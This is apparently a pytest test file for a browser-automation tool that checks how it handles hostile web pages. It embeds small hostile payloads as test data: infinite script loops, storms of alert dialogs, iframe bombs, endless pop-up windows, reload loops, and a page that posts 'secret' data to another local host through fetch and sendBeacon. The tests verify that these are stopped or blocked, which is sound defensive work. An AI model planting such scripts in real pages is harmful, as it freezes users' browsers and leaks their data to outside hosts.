"""Pages that mean harm, or behave as if they did: each has an outcome with a name."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from browser_desk import showing
from hostile_portal import HostilePortal, Reply, a_portal

from clerkwork.core.portals import Portal
from clerkwork.errors import BusinessError, PageTimeout, PortalUnreachable
from clerkwork.ports import Browser, Screen

pytest_plugins = ["hostile_fixtures"]
PATIENCE = 2
SELECTORS = """
dialogs = [
    { text = "Doorgaan", answer = "accept" },
    { text = "beforeunload", answer = "accept" },
    { text = "Geweigerd", answer = "refuse" },
]

[portal]
busy = ["css=.spinner", "text=Een ogenblik geduld"]

[page]
go = "role=button[name='Verder']"
name = "near=Naam"
said = "css=#said"
none = "text=is er niet"

[left]
window = "left"
said = "css=#said"
close = "role=button[name='Sluit']"

[right]
window = "right"
said = "css=#said"

[report]
frame = "report"
busy = "css=img.wait"
go = "text=Toon"
said = "css=#said"
"""


def button(script: str) -> str:
    return f'<button onclick="{script}">Verder</button><p id=said></p>'


def pressed_and_read(screen: Screen, name: str = "page.none") -> str:
    screen.click("page.go")
    return screen.wait_for(name)


_DEAF = (
    "<script>let n = 0; window.addEventListener('click', (e) => {"
    " document.querySelector('#said').textContent = ++n; e.stopImmediatePropagation(); }, true)"
    "</script>"
)


def test_a_click_that_nobody_heard_is_made_again_while_reading(
    screen: Screen, site: HostilePortal
) -> None:
    showing(screen, site, button("") + _DEAF)
    screen.click("page.go")
    assert screen.text("page.said") == "2"


def test_a_click_that_nobody_heard_is_asked_after_where_it_would_write(
    screen: Screen, site: HostilePortal
) -> None:
    showing(screen, site, button("") + _DEAF)
    unheard = pytest.raises(PageTimeout, match=r"nothing on the page heard the click on page\.go")
    with unheard, screen.writing():
        screen.click("page.go")
    assert screen.text("page.said") == "1"


@pytest.mark.parametrize("act", ["click", "fill", "text"])
def test_a_script_that_never_lets_go(screen: Screen, site: HostilePortal, act: str) -> None:
    page = (
        f"{button('for(;;);')}<table><tr><td>Naam<td><input onchange='for(;;);'></table>"
        "<script>window.hold = () => { for(;;); }</script>"
    )
    showing(screen, site, page)
    acts: dict[str, Callable[[], object]] = {
        "click": lambda: screen.click("page.go"),
        "fill": lambda: screen.fill("page.name", "Jansen"),
        "text": lambda: showing(
            screen, site, "<p id=said>x</p><script>setTimeout(() => { for(;;); }, 60)</script>"
        ).wait_for("page.none"),
    }
    with pytest.raises(PageTimeout, match="longer than 2 s"):
        acts[act]()


@pytest.mark.parametrize(
    "script",
    [
        "for(;;) alert('Betaal nu')",
        "for(;;) confirm('Doorgaan?')",
        "for(;;) alert('Geweigerd')",
        "setTimeout(() => { for(;;) prompt('Naam?') })",
    ],
)
def test_a_storm_of_dialogs_stops_with_its_words(
    screen: Screen, site: HostilePortal, script: str
) -> None:
    showing(screen, site, button(script))
    with pytest.raises(BusinessError, match=r"asks again and again, .* last '(Be|Do|Ge|Na)") as one:
        screen.click("page.go")
    assert type(one.value) is BusinessError


def test_dialogs_from_a_timer_stop_at_the_first(screen: Screen, site: HostilePortal) -> None:
    showing(screen, site, button("setInterval(() => alert('Betaal nu'))"))
    with pytest.raises(BusinessError, match="asked 'Betaal nu', which was dismissed"):
        pressed_and_read(screen)


def test_a_storm_while_a_field_is_filled(screen: Screen, site: HostilePortal) -> None:
    field = "<table><tr><td>Naam<td><input onchange=\"for(;;) alert('Geweigerd')\"></table>"
    showing(screen, site, field)
    with pytest.raises(BusinessError, match="asks again and again"):
        screen.fill("page.name", "Jansen")


def test_a_page_that_asks_before_it_is_left(screen: Screen, site: HostilePortal) -> None:
    page = f"{button('said.textContent = 1')}<script>onbeforeunload = () => 'Blijf'</script>"
    showing(screen, site, page).click("page.go")
    showing(screen, site, "<p id=said>verder</p>")

    assert screen.text("page.said") == "verder"


@pytest.mark.parametrize(
    "script",
    [
        "for (var i = 0; i < 2000; i++) document.body.append(document.createElement('iframe'))",
        # Many at a time: on a slow machine few such turns fit into the two seconds.
        "setInterval(() => { for (var i = 0; i < 70; i++)"
        " document.body.append(document.createElement('iframe')) })",
        "function go(w) { var f = w.document.createElement('iframe'); w.document.body.append(f);"
        " if (n++ < 400) go(f.contentWindow) } var n = 0; go(window)",
    ],
)
def test_a_bomb_of_frames(screen: Screen, site: HostilePortal, script: str) -> None:
    with pytest.raises(PageTimeout, match=r"more than 200 frames|longer than 2 s"):
        showing(screen, site, f"<body><script>{script}</script>").wait_for("page.none")


def test_windows_without_end(screen: Screen, site: HostilePortal) -> None:
    site.routes["/more"] = lambda _: Reply("<p>Reclame</p>")
    many = "for (var i = 0; i < 30; i++) window.open('/more', 'w' + i)"
    showing(screen, site, button(many))
    with pytest.raises(BusinessError, match="window after window"):
        pressed_and_read(screen)


def test_a_window_that_hangs_as_it_opens(screen: Screen, site: HostilePortal) -> None:
    site.routes["/left"] = lambda _: Reply("<p id=said>x</p><script>for(;;);</script>")
    showing(screen, site, button("window.open('/left', 'left')"))
    with pytest.raises(PageTimeout, match=r"longer than 2 s|did not open"):
        pressed_and_read(screen, "left.said")


@pytest.mark.parametrize(
    "page",
    [
        "<script>location.reload()</script>",
        "<script>setInterval(() => location.reload(), 20)</script>",
        "<script>setInterval(() => location.reload(), 300)</script>",
        "<meta http-equiv=refresh content=0>",
    ],
)
def test_a_page_that_never_settles(screen: Screen, site: HostilePortal, page: str) -> None:
    with pytest.raises(PageTimeout, match=r"within 2 s|longer than 2 s"):
        showing(screen, site, page).text("page.none")


def test_a_file_that_nobody_asked_for_beside_a_frame_that_never_comes(
    screen: Screen, site: HostilePortal
) -> None:
    attached = {"Content-Disposition": "attachment; filename=endless.csv"}
    site.routes["/endless"] = lambda _: Reply("a;b", headers=attached, hang_after=True)
    site.routes["/frame"] = lambda _: Reply("<script>", hang_after=True)
    open_frame = (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/frame'}))"
    )
    showing(screen, site, button(f"location = '/endless'; {open_frame}"))
    with pytest.raises(PageTimeout, match="did not come within 2 s"):
        pressed_and_read(screen)


def test_a_page_that_sends_on_to_another_host_by_itself(
    screen: Screen, site: HostilePortal
) -> None:
    with a_portal() as other:
        sent = button(f"setTimeout(() => location.href = '{other.address}', 30)")
        showing(screen, site, sent)
        with pytest.raises(PortalUnreachable, match="another host"):
            pressed_and_read(screen)
        assert other.visits == []


def asking(host: str) -> str:
    """A page that asks another host for all that a page can, and sends it what it knows."""
    return f"""<link rel=stylesheet href="{host}style"><img src="{host}img?secret">
<script src="{host}script"></script><p id=said>x</p><script>
fetch('{host}fetch', {{method: 'POST', mode: 'no-cors', body: 'secret'}}).catch(() => 0);
fetch('{host}keep', {{method: 'POST', mode: 'no-cors', body: 'x', keepalive: true}}).catch(() => 0);
navigator.sendBeacon('{host}beacon', 'secret');
new EventSource('{host}events');
new Worker('/worker.js');
fetch('/own').then(() => {{ said.textContent = 'own'; }});
</script>"""


def test_what_its_page_asks_of_another_host_never_leaves(
    screen: Screen, site: HostilePortal
) -> None:
    with a_portal() as other:
        sends = f"fetch('{other.address}worker', {{method: 'POST', body: 'x', mode: 'no-cors'}})"
        site.routes["/worker.js"] = lambda _: Reply(sends, type="text/javascript")
        site.routes["/own"] = lambda _: Reply("ok")
        showing(screen, site, asking(other.address.replace("127.0.0.1", "localhost")))
        with pytest.raises(PageTimeout) as told:
            screen.wait_for("page.none")
        assert screen.text("page.said") == "own"
        assert site.seen("/worker.js")
        assert other.visits == []
    said = str(told.value)
    assert "Its pages were not let ask" in said
    assert "localhost" in said
    assert "add it to 'hosts' of [hostile] in config/portals.toml" in said


def test_a_host_that_is_declared_is_asked_for_anything_but_pages(
    browser: Browser, site: HostilePortal
) -> None:
    site.routes["/own"] = site.routes["/worker.js"] = lambda _: Reply("")
    with a_portal() as other:
        cdn = other.address.replace("127.0.0.1", "localhost")
        portal = Portal(
            name="hostile", address=site.address, patience=PATIENCE, hosts=("localhost",)
        )
        screen = browser.open(portal)
        showing(screen, site, asking(cdn))
        with pytest.raises(PageTimeout) as told:
            screen.wait_for("page.none")
        assert {"/img", "/style", "/script", "/fetch"} <= {visit.path for visit in other.visits}
        assert "not let ask" not in str(told.value)
        with pytest.raises(PortalUnreachable, match="another host"):
            showing(screen, site, f"<script>location = '{cdn}page'</script>").text("page.said")
        screen.close()
        assert not other.seen("/page")


SPINNING = """<button onclick="go()">Verder</button><p id=said>oud</p><script>
function go() {
  document.body.insertAdjacentHTML('beforeend', '<div class=spinner>...</div>');
  fetch('/work').then(() => {
    document.getElementById('said').textContent = 'nieuw';
    document.querySelector('.spinner').remove();
  });
}</script>"""


def test_a_spinner_is_waited_for(screen: Screen, site: HostilePortal) -> None:
    def late(_: object) -> Reply:
        site.over.wait(0.8)
        return Reply("ok")

    site.routes["/work"] = late
    showing(screen, site, SPINNING).click("page.go")

    assert screen.text("page.said") == "nieuw"


def test_a_spinner_that_stays_is_a_timeout(screen: Screen, site: HostilePortal) -> None:
    showing(screen, site, SPINNING.replace("document.querySelector('.spinner').remove();", ""))
    site.routes["/work"] = lambda _: Reply("ok")
    with pytest.raises(PageTimeout, match="what it is busy with did not come within 2 s"):
        pressed_and_read(screen)


def test_a_frame_that_reloads_behind_a_picture_of_its_own(
    screen: Screen, site: HostilePortal
) -> None:
    busy = "<img class=wait src='data:image/gif;base64,{}' width=9 height=9>"
    later = "<script>setTimeout(() => location.href = '/ready', 400)</script>"
    site.routes["/wait"] = lambda _: Reply(f"{busy}<p id=said>oud</p>{later}")
    site.routes["/ready"] = lambda _: Reply("<p id=said>klaar</p>")
    site.routes["/asks"] = lambda _: Reply("<a href=/wait>Toon</a><p id=said>leeg</p>")
    showing(screen, site, "<iframe name=report src=/asks></iframe>")
    screen.click("report.go")

    assert screen.text("report.said") == "klaar"


def test_popups_are_told_apart_by_their_names(screen: Screen, site: HostilePortal) -> None:
    for name in ("left", "right"):
        shut = "<button onclick=window.close()>Sluit</button>"
        page = f"<p id=said>{name}</p>{shut}"
        site.routes[f"/{name}"] = lambda _, page=page: Reply(page)  # type: ignore[misc]
    both = "window.open('/left', 'left', 'width=200'); window.open('/right', 'right', 'width=200')"
    showing(screen, site, button(both)).click("page.go")

    assert [screen.text(f"{name}.said") for name in ("left", "right", "left")] == [
        "left",
        "right",
        "left",
    ]
    screen.click("left.close")
    assert not screen.shows("left.said")
    assert screen.text("right.said") == "right"
